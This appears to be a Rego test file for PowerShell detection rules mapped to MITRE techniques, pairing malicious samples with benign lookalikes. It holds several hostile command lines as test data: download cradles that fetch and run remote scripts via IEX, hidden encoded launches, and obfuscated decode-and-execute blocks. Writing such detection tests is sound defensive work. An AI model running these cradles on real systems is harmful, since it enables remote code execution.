package mitre_test

_block(text) := _ev({"event": "powershell.script_block", "powershell": {"file": {"script_block_text": text}}})

test_seed_invoke_expression if {
	"T1059.001" in _found(_ev({"event": "exec.powershell", "command": "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://10.9.8.7/p.ps1')"}))
}

test_seed_plain_command_is_benign if {
	count(_found(_ev({"event": "exec.powershell", "command": "Get-ChildItem C:\\Users\\alice -Recurse"}))) == 0
}

test_download_cradle_command_line if {
	ds := _detections(_proc(_powershell, `powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://185.4.6.7/a.ps1')"`, _cmd_exe))
	some d in ds
	d.technique == "T1059.001"
	d.rule == "powershell_download_cradle"
}

test_download_to_disk_is_benign if {
	count(_found(_proc(_powershell, `powershell.exe -NoProfile -Command "Invoke-WebRequest -Uri https://intranet.corp/tools/agent.msi -OutFile C:\Temp\agent.msi"`, _explorer))) == 0
}

test_script_block_cradle if {
	"T1059.001" in _found(_block("$u='http://10.1.2.3/s';IEX (New-Object System.Net.WebClient).DownloadString($u)"))
}

test_script_block_plain_web_call_is_benign if {
	count(_found(_block("$r = Invoke-RestMethod -Uri https://api.github.com/repos/org/repo/releases/latest; $r.tag_name"))) == 0
}

test_encoded_command_is_powershell_and_obfuscation if {
	ev := _proc(_powershell, "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", _cmd_exe)
	found := _found(ev)
	"T1059.001" in found
	"T1027" in found
}

test_encoded_command_full_flag_name if {
	"T1027" in _found(_proc(`C:\Program Files\PowerShell\7\pwsh.exe`, "pwsh.exe -EncodedCommand ZwBlAHQALQBwAHIAbwBjAGUAcwBzAA==", _cmd_exe))
}

test_execution_policy_bypass_file_is_benign if {
	# -ExecutionPolicy starts with -e but is not a prefix of -EncodedCommand.
	count(_found(_proc(_powershell, `powershell.exe -ExecutionPolicy Bypass -File C:\scripts\nightly-backup.ps1`, `C:\Windows\System32\svchost.exe`))) == 0
}

test_hidden_powershell_from_word if {
	ds := _detections(_proc(_powershell, "powershell.exe -w hidden -nop -c Start-Sleep 1", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`))
	some d in ds
	d.rule == "powershell_hidden_from_script_host"
}

test_hidden_powershell_from_scheduler_is_benign if {
	count(_found(_proc(_powershell, `powershell.exe -WindowStyle Hidden -File C:\ops\inventory.ps1`, `C:\Windows\System32\svchost.exe`))) == 0
}

test_script_block_base64_decode_and_run if {
	"T1027" in _found(_block("$d=[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p)); iex $d"))
}

test_script_block_base64_decode_to_file_is_benign if {
	count(_found(_block("[IO.File]::WriteAllBytes('C:\\certs\\ca.cer', [Convert]::FromBase64String($pem))"))) == 0
}

test_script_block_char_join if {
	"T1027" in _found(_block("& (([char]105,[char]101,[char]120) -join '') ([char]71+[char]101+[char]116)"))
}
